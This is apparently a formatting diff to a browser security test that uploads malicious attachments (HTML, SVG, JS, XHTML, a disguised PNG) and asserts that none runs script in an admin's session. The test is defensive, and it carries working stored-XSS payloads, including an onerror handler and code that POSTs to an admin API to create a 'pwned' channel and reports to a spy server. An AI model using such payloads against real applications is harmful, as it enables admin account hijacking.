@@ -28,7 +28,7 @@ const payload = (marker: string, spy: string) =>
   `  return fetch('/admin/api/channels', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ provider: 'test', name: 'pwned-${marker}', config: { secret: 'x' } }) });` +
   `});`;
 
-test('an uploaded HTML, SVG or JS attachment opened in a signed-in admin\'s Chromium runs no script in the app\'s origin', { skip, timeout: 90_000 }, async () => {
+test("an uploaded HTML, SVG or JS attachment opened in a signed-in admin's Chromium runs no script in the app's origin", { skip, timeout: 90_000 }, async () => {
   const platform = new TestPlatform();
   const { bridge, fake, close } = await startBridgeWithPipedrive({ platforms: { test: platform.factory() } });
   // The attacker's server: any request reaching it means a payload ran.
@@ -63,7 +63,11 @@ test('an uploaded HTML, SVG or JS attachment opened in a signed-in admin\'s Chro
     const conv = await seedConversation(bridge, channel);
     const js = await uploadFiles(bridge, channel, conv, [{ name: 'evil.js', type: 'application/javascript', data: payload('js', spy) }]);
     const files = await uploadFiles(bridge, channel, conv, [
-      { name: 'evil.html', type: 'text/html', data: `<!doctype html><title>hi</title><script>${payload('html', spy)}</script><script src="${js.get('evil.js')}"></script><img src=x onerror="${payload('onerror', spy).replaceAll('"', '&quot;')}">` },
+      {
+        name: 'evil.html',
+        type: 'text/html',
+        data: `<!doctype html><title>hi</title><script>${payload('html', spy)}</script><script src="${js.get('evil.js')}"></script><img src=x onerror="${payload('onerror', spy).replaceAll('"', '&quot;')}">`,
+      },
       { name: 'evil.svg', type: 'image/svg+xml', data: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg onload')"><script>${payload('svg', spy)}</script></svg>` },
       { name: 'evil.xhtml', type: 'application/xhtml+xml', data: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${payload('xhtml', spy)}</script></body></html>` },
       { name: 'disguised.png', type: 'image/png', data: `<!doctype html><script>${payload('sniffed', spy)}</script>` },
@@ -94,7 +98,10 @@ test('an uploaded HTML, SVG or JS attachment opened in a signed-in admin\'s Chro
     assert.deepEqual(markers, []);
     assert.deepEqual(dialogs, []);
     assert.deepEqual(leaks, []);
-    assert.deepEqual((await listChannels(bridge.db, { includeDeleted: true })).map((c) => c.name).filter((n) => n.startsWith('pwned')), []);
+    assert.deepEqual(
+      (await listChannels(bridge.db, { includeDeleted: true })).map((c) => c.name).filter((n) => n.startsWith('pwned')),
+      [],
+    );
     // Everything active was a download (no document of ours is made from it); the image type
     // rendered as an image, never sniffed into HTML.
     assert.deepEqual(Object.fromEntries(outcomes), {
